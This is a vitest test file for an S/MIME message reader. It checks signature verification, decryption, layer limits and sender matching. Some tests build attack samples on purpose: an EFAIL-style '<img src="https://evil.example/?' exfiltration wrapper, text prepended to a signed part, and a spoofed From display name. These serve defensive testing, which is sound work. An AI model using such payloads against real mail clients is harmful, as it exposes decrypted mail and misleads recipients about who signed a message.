import { describe, expect, it } from 'vitest';

import { base64Body } from '../mime/build-mime';
import { LIMITS } from '../limits';
import { OID } from '../oids';
import { type FakeCms, type FakeSigner, bytesField, fakeCertificate, fakeCms, fakeIdentity, fakeReadEngine } from './fake-engines';
import { readMessage } from './read-message';

const certificates = {
  alice: fakeCertificate('alice', ['alice@example.com']),
  eve: fakeCertificate('eve', ['eve@evil.example']),
  me: fakeCertificate('me', ['me@example.com']),
  mallory: fakeCertificate('mallory', ['mallory@example.com'], true),
};

function setup() {
  const { engine, calls } = fakeReadEngine(certificates);
  // An older key first: the walk must hand every identity to the decrypter.
  const context = { engine, identities: [fakeIdentity(fakeCertificate('old-me', [])), fakeIdentity(certificates.me)], trust: 'trust' as const };
  return { context, calls };
}

const bytes = (text: string) => new TextEncoder().encode(text);
const text = (b: Uint8Array) => new TextDecoder().decode(b);
const crlf = (lines: string[]) => lines.join('\r\n');
const base64 = (der: Uint8Array) => text(base64Body(der));

const HEADERS = ['From: Alice <alice@example.com>', 'To: me@example.com', 'Subject: Hello', 'MIME-Version: 1.0'];
const HELLO = 'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\nsee you.\r\n';

/** A multipart/signed entity (no message headers) over `content`, signed over `signedOver` (default: exactly `content`). */
function clearSignedEntity(content: string, options: { signers?: FakeSigner[]; signedOver?: string; protocol?: string; signaturePart?: string[] } = {}) {
  const cms = fakeCms({
    type: 'signed',
    signers: options.signers ?? [{ certificate: 'alice' }],
    signedBytes: bytesField(options.signedOver ?? content),
    certificates: ['alice'],
  });
  const protocol = options.protocol ?? 'protocol="application/pkcs7-signature"; ';
  return crlf([
    `Content-Type: multipart/signed; ${protocol}micalg=sha-256; boundary="sig-b"`,
    '',
    'This is an S/MIME signed message.',
    '--sig-b',
    `${content}`,
    '--sig-b',
    ...(options.signaturePart ?? ['Content-Type: application/pkcs7-signature; name="smime.p7s"', 'Content-Transfer-Encoding: base64']),
    '',
    `${base64(cms)}--sig-b--`,
    '',
  ]);
}

function pkcs7Entity(spec: FakeCms, contentType = 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"', extra: string[] = []) {
  return crlf([`Content-Type: ${contentType}`, 'Content-Transfer-Encoding: base64', ...extra, '', base64(fakeCms(spec))]);
}

const message = (entity: string, headers = HEADERS) => bytes(`${crlf(headers)}\r\n${entity}`);

describe('readMessage: clear-signed', () => {
  it('verifies exactly the bytes of part 1 and reports a trusted, matching signer', async () => {
    const { context, calls } = setup();
    const { report, plaintext, certificates: carried } = await readMessage(message(clearSignedEntity(HELLO)), context);
    expect(calls.verified).toHaveLength(1);
    expect(text(calls.verified[0]!)).toBe(HELLO);
    expect(report.signed).toBe(true);
    expect(report.partial).toBe(false);
    expect(report.layers).toMatchObject([{ kind: 'clear-signed', partPath: '', errors: [] }]);
    expect(report.signatures).toEqual([
      expect.objectContaining({
        signerEmail: 'alice@example.com',
        intact: true,
        chain: 'trusted',
        fromMatchesSigner: true,
        signingTime: '2026-01-02T03:04:05.000Z',
        reasons: [],
        revocation: { status: 'good' },
      }),
    ]);
    expect(report.text).toBe('Hello Bob,\r\nsee you.\r\n');
    expect(report.attachments).toEqual([]);
    expect(report.errors).toEqual([]);
    expect(carried).toEqual([certificates.alice]);
    // The message's own header fields, then the signed entity (its Content-Type and body).
    expect(text(plaintext)).toBe(`${crlf(HEADERS)}\r\n${HELLO}`);
  });

  it('retries over CRLF when a gateway turned the line ends into LF, and says so', async () => {
    const { context, calls } = setup();
    const lf = text(message(clearSignedEntity(HELLO))).replace(/\r\n/g, '\n');
    const { report } = await readMessage(bytes(lf), context);
    expect(calls.verified.map((b) => text(b!))).toEqual([HELLO.replace(/\r\n/g, '\n'), HELLO]);
    expect(report.signed).toBe(true);
    expect(report.signatures[0]!.reasons.join(' ')).toMatch(/line ends/);
  });

  it('is not signed when the content was changed, even after the CRLF retry', async () => {
    const { context } = setup();
    const { report } = await readMessage(message(clearSignedEntity(HELLO.replace('Bob', 'Rob'), { signedOver: HELLO })), context);
    expect(report.signed).toBe(false);
    expect(report.signatures[0]).toMatchObject({ intact: false });
    expect(report.signatures[0]!.reasons.length).toBeGreaterThan(0);
    expect(report.text).toContain('Rob');
  });

  it('is signed only when every signer holds', async () => {
    const { context } = setup();
    const twoSigners = (second: FakeSigner) =>
      message(pkcs7Entity({ type: 'signed', signers: [{ certificate: 'alice' }, second], content: bytesField(HELLO) }, 'application/pkcs7-mime; smime-type=signed-data'));
    const both = (await readMessage(twoSigners({ certificate: 'eve' }), context)).report;
    expect(both.signed).toBe(true);
    expect(both.signatures.map((s) => s.fromMatchesSigner)).toEqual([true, false]);
    const oneBroken = (await readMessage(twoSigners({ certificate: 'eve', intact: false }), context)).report;
    expect(oneBroken.signed).toBe(false);
    expect(oneBroken.signatures.map((s) => s.intact)).toEqual([true, false]);
    const unknownSigner = (await readMessage(twoSigners({ certificate: null }), context)).report;
    expect(unknownSigner.signatures[1]).toMatchObject({ signerEmail: null, chain: 'unknown', fromMatchesSigner: false, certificate: null });
  });

  it('reports an untrusted chain in plain words without hiding that the signature is intact', async () => {
    const { context } = setup();
    const entity = clearSignedEntity(HELLO, { signers: [{ certificate: 'mallory' }] });
    const { report } = await readMessage(message(entity, ['From: mallory@example.com']), context);
    expect(report.signed).toBe(true);
    expect(report.signatures[0]).toMatchObject({ chain: 'untrusted-root', intact: true, fromMatchesSigner: true });
    expect(report.signatures[0]!.reasons).toEqual(['The certificate chain ends at a root that is not trusted.']);
  });

  it('recognizes a signature part sent as application/octet-stream named .p7s, without a protocol parameter', async () => {
    const { context } = setup();
    const entity = clearSignedEntity(HELLO, {
      protocol: '',
      signaturePart: ['Content-Type: application/octet-stream; name="smime.p7s"', 'Content-Transfer-Encoding: base64'],
    });
    const { report } = await readMessage(message(entity), context);
    expect(report.layers.map((l) => l.kind)).toEqual(['clear-signed']);
    expect(report.signed).toBe(true);
  });

  it('leaves multipart/signed of another protocol (PGP/MIME) alone', async () => {
    const { context, calls } = setup();
    const entity = clearSignedEntity(HELLO, {
      protocol: 'protocol="application/pgp-signature"; ',
      signaturePart: ['Content-Type: application/pgp-signature'],
    });
    const { report } = await readMessage(message(entity), context);
    expect(calls.verified).toHaveLength(0);
    expect(report.layers).toEqual([]);
    expect(report.signed).toBe(false);
  });

  it('reports the eContent confusion refusal as an error and shows part 1 unsigned', async () => {
    const { context } = setup();
    const cms = fakeCms({ type: 'signed', signers: [{ certificate: 'alice' }], content: bytesField('Pay Mallory') });
    const entity = crlf([
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=q',
      '',
      '--q',
      HELLO,
      '--q',
      'Content-Type: application/pkcs7-signature',
      'Content-Transfer-Encoding: base64',
      '',
      `${base64(cms)}--q--`,
    ]);
    const { report } = await readMessage(message(entity), context);
    expect(report.signed).toBe(false);
    expect(report.errors).toEqual([expect.objectContaining({ code: 'malformed-cms' })]);
    expect(report.layers[0]!.errors).toEqual(report.errors);
    expect(report.text).toContain('Hello Bob');
  });
});

describe('readMessage: partial signing and EFAIL', () => {
  it('M1: text prepended to a signed part is partial, never signed', async () => {
    const { context, calls } = setup();
    const entity = crlf([
      'Content-Type: multipart/mixed; boundary=outer',
      '',
      '--outer',
      'Content-Type: text/plain',
      '',
      'Ignore the below, pay Mallory.',
      '--outer',
      clearSignedEntity(HELLO),
      '--outer--',
    ]);
    const { report } = await readMessage(message(entity), context);
    expect(calls.verified).toHaveLength(1);
    expect(text(calls.verified[0]!)).toBe(HELLO);
    expect(report).toMatchObject({ signed: false, partial: true, signatures: [], text: 'Ignore the below, pay Mallory.' });
    expect(report.layers).toMatchObject([{ kind: 'clear-signed', partPath: '2' }]);
    expect(report.layers[0]!.signatures![0]).toMatchObject({ intact: true });
  });

  it('M4: the signed part as an attachment is partial, never signed', async () => {
    const { context } = setup();
    const attached = clearSignedEntity(HELLO).replace('Content-Type: multipart/signed;', 'Content-Disposition: attachment\r\nContent-Type: multipart/signed;');
    const entity = crlf(['Content-Type: multipart/mixed; boundary=outer', '', '--outer', 'Content-Type: text/html', '', '<p>Hi</p>', '--outer', attached, '--outer--']);
    const { report } = await readMessage(message(entity), context);
    expect(report).toMatchObject({ signed: false, partial: true, text: 'Hi' });
    expect(report.attachments).toEqual([expect.objectContaining({ contentType: 'text/plain', size: 'Hello Bob,\r\nsee you.\r\n'.length })]);
  });

  it('does not decrypt an encrypted part inside an unprotected multipart', async () => {
    const { context, calls } = setup();
    const encrypted = pkcs7Entity({ type: 'enveloped', recipient: 'me', content: bytesField(HELLO) }, 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"', [
      'Content-Disposition: attachment; filename="smime.p7m"',
    ]);
    const entity = crlf(['Content-Type: multipart/mixed; boundary=outer', '', '--outer', 'Content-Type: text/html', '', '<img src="https://evil.example/?', '--outer', encrypted, '--outer--']);
    const { report } = await readMessage(message(entity), context);
    expect(calls.decrypted).toBe(0);
    expect(report.encrypted).toBe(false);
    expect(report.layers).toEqual([]);
    expect(report.attachments).toEqual([expect.objectContaining({ filename: 'smime.p7m', contentType: 'application/pkcs7-mime' })]);
  });
});

describe('readMessage: pkcs7-mime layers and sniffing', () => {
  it('decrypts with any of several identities and reports the cipher', async () => {
    const { context } = setup();
    const { report, plaintext } = await readMessage(message(pkcs7Entity({ type: 'auth-enveloped', recipient: 'me', content: bytesField(HELLO) })), context);
    expect(report).toMatchObject({ encrypted: true, contentCipher: 'aes-256-gcm', keyTransport: 'rsa-oaep', signed: false, text: 'Hello Bob,\r\nsee you.\r\n' });
    expect(report.layers).toMatchObject([{ kind: 'auth-enveloped', partPath: '', integrityProtected: true }]);
    expect(text(plaintext)).toContain('Subject: Hello\r\n');
    expect(text(plaintext)).toContain('Hello Bob');
    expect(text(plaintext)).not.toContain('pkcs7');
  });

  it('takes the layer kind from the ContentInfo when smime-type is wrong or missing, or the part is an octet-stream .p7m', async () => {
    const envelope: FakeCms = { type: 'enveloped', recipient: 'me', content: bytesField(HELLO) };
    for (const [type, extra] of [
      ['application/pkcs7-mime; smime-type=signed-data', []],
      ['application/x-pkcs7-mime', []],
      ['application/octet-stream; name="smime.p7m"', []],
      ['application/octet-stream', ['Content-Disposition: attachment; filename="SMIME.P7M"']],
    ] as const) {
      const { context } = setup();
      const { report } = await readMessage(message(pkcs7Entity(envelope, type, [...extra])), context);
      expect(report.layers.map((l) => l.kind), type).toEqual(['enveloped']);
      expect(report.text).toContain('Hello Bob');
    }
  });

  it('reports a failed decryption as an error entry and shows the encrypted part', async () => {
    const { context } = setup();
    const { report } = await readMessage(message(pkcs7Entity({ type: 'enveloped', recipient: 'someone-else', content: bytesField(HELLO) })), context);
    expect(report).toMatchObject({ encrypted: true, signed: false, text: '' });
    expect(report.errors).toEqual([expect.objectContaining({ code: 'no-matching-recipient' })]);
    expect(report.layers[0]!.errors).toEqual(report.errors);
  });

  it('treats a SignedData without signers as certs-only, never as a signature, whatever its label', async () => {
    const { context } = setup();
    const opaque = pkcs7Entity(
      { type: 'signed', signers: [], content: bytesField(HELLO), certificates: ['alice', 'eve'] },
      'application/pkcs7-mime; smime-type=signed-data',
    );
    const read = await readMessage(message(opaque), context);
    expect(read.report).toMatchObject({ signed: false, partial: false, signatures: [] });
    expect(read.report.layers).toMatchObject([{ kind: 'certs-only', certificates: [{ subject: 'CN=alice' }, { subject: 'CN=eve' }] }]);
    expect(read.report.text).toContain('Hello Bob');
    expect(read.certificates).toEqual([certificates.alice, certificates.eve]);

    const detached = await readMessage(message(clearSignedEntity(HELLO, { signers: [] })), context);
    expect(detached.report).toMatchObject({ signed: false, partial: false });
    expect(detached.report.layers.map((l) => l.kind)).toEqual(['certs-only']);
  });

  it('reports an opaque signature that carries no content as an error', async () => {
    const { context } = setup();
    const { report } = await readMessage(message(pkcs7Entity({ type: 'signed', signers: [{ certificate: 'alice' }] }, 'application/pkcs7-mime; smime-type=signed-data')), context);
    expect(report.signed).toBe(false);
    expect(report.errors).toEqual([expect.objectContaining({ code: 'malformed-cms' })]);
  });

  it('unwraps a triple wrap (signed, encrypted, signed) in order', async () => {
    const { context } = setup();
    const innerSigned = pkcs7Entity({ type: 'signed', signers: [{ certificate: 'alice' }], content: bytesField(HELLO) }, 'application/pkcs7-mime; smime-type=signed-data');
    const encrypted = pkcs7Entity({ type: 'enveloped', recipient: 'me', content: bytesField(innerSigned), cipher: 'des-ede3-cbc' });
    const compressed = pkcs7Entity({ type: 'compressed', content: bytesField(encrypted) }, 'application/pkcs7-mime; smime-type=compressed-data');
    const { report } = await readMessage(message(clearSignedEntity(compressed)), context);
    expect(report.layers.map((l) => [l.kind, l.partPath])).toEqual([
      ['clear-signed', ''],
      ['compressed', '1'],
      ['enveloped', '1'],
      ['opaque-signed', '1'],
    ]);
    expect(report).toMatchObject({ signed: true, encrypted: true, weakCipher: true, contentCipher: 'des-ede3-cbc', text: 'Hello Bob,\r\nsee you.\r\n' });
    expect(report.signatures).toHaveLength(2);
  });

  it(`stops after ${LIMITS.smimeNesting} layers with a limit-exceeded error`, async () => {
    const { context } = setup();
    let entity = HELLO;
    for (let i = 0; i <= LIMITS.smimeNesting; i++) {
      entity = pkcs7Entity({ type: 'compressed', content: bytesField(entity) }, 'application/pkcs7-mime; smime-type=compressed-data');
    }
    const { report } = await readMessage(message(entity), context);
    expect(report.layers).toHaveLength(LIMITS.smimeNesting);
    expect(report.errors).toEqual([expect.objectContaining({ code: 'limit-exceeded' })]);
    expect(report.signed).toBe(false);
  });

  it('reports a CMS type it does not open, and garbage that is not CMS', async () => {
    const { context } = setup();
    const digested = fakeCms({ type: 'compressed', content: '' }, OID.data);
    const other = crlf(['Content-Type: application/pkcs7-mime', 'Content-Transfer-Encoding: base64', '', base64(digested)]);
    expect((await readMessage(message(other), context)).report.errors).toEqual([expect.objectContaining({ code: 'malformed-cms' })]);
    const garbage = crlf(['Content-Type: application/pkcs7-mime', 'Content-Transfer-Encoding: base64', '', 'bm90IGFzbjE=']);
    expect((await readMessage(message(garbage), context)).report.errors).toEqual([expect.objectContaining({ code: 'malformed-asn1' })]);
  });

  it('never throws on broken MIME: the error is in the report', async () => {
    const { context } = setup();
    const { report, plaintext } = await readMessage(message('Content-Type: multipart/mixed\r\n\r\nno boundary'), context);
    expect(report.errors).toEqual([expect.objectContaining({ code: 'malformed-mime' })]);
    expect(plaintext.length).toBeGreaterThan(0);
    const inner = await readMessage(message(pkcs7Entity({ type: 'enveloped', recipient: 'me', content: bytesField('Content-Type: multipart/mixed\r\n\r\nx') })), context);
    expect(inner.report.errors).toEqual([expect.objectContaining({ code: 'malformed-mime' })]);
    expect(inner.report.encrypted).toBe(true);
  });
});

describe('readMessage: From and signer', () => {
  const fromCase = async (headers: string[], content = HELLO) => {
    const { context } = setup();
    return (await readMessage(message(clearSignedEntity(content), headers), context)).report.signatures[0]!;
  };

  it('ignores display names: "alice@example.com" <eve@evil.example> does not match alice', async () => {
    const signature = await fromCase(['From: "alice@example.com" <eve@evil.example>']);
    expect(signature.fromMatchesSigner).toBe(false);
    expect(signature.reasons).toContain("The signer's address alice@example.com does not match the sender eve@evil.example.");
  });

  it('does not match with two From fields, an empty From, or no From', async () => {
    for (const headers of [['From: alice@example.com', 'From: alice@example.com'], ['From: '], ['Subject: none']]) {
      const signature = await fromCase(headers);
      expect(signature.fromMatchesSigner, headers.join()).toBe(false);
      expect(signature.reasons.join(' ')).toMatch(/no single valid From/);
    }
  });

  it('matches regardless of case', async () => {
    expect((await fromCase(['From: Alice <ALICE@Example.COM>'])).fromMatchesSigner).toBe(true);
  });

  it('uses the From of the signed entity when it has one (RFC 9788 header protection)', async () => {
    const protectedContent = `From: Alice <alice@example.com>\r\n${HELLO}`;
    expect((await fromCase(['From: eve@evil.example'], protectedContent)).fromMatchesSigner).toBe(true);
    expect((await fromCase(['From: alice@example.com'], `From: eve@evil.example\r\n${HELLO}`)).fromMatchesSigner).toBe(false);
  });
});

describe('readMessage: content', () => {
  it('shows the plain alternative as text and lists attachments with size and SHA-256', async () => {
    const { context } = setup();
    const content = crlf([
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      'Content-Type: multipart/alternative; boundary=a',
      '',
      '--a',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>html</p>',
      '--a',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'caf=C3=A9',
      '--a--',
      '--m',
      'Content-Type: image/png',
      'Content-Disposition: inline',
      'Content-Transfer-Encoding: base64',
      '',
      'AAEC',
      '--m',
      'Content-Type: application/pdf; name="report.pdf"',
      'Content-Disposition: attachment',
      'Content-Transfer-Encoding: base64',
      '',
      'YWJj',
      '--m--',
      '',
    ]);
    const { report } = await readMessage(message(clearSignedEntity(content)), context);
    expect(report.signed).toBe(true);
    expect(report.text).toBe('café');
    expect(report.attachments).toEqual([
      {
        filename: 'report.pdf',
        contentType: 'application/pdf',
        size: 3,
        sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
      },
    ]);
  });
});
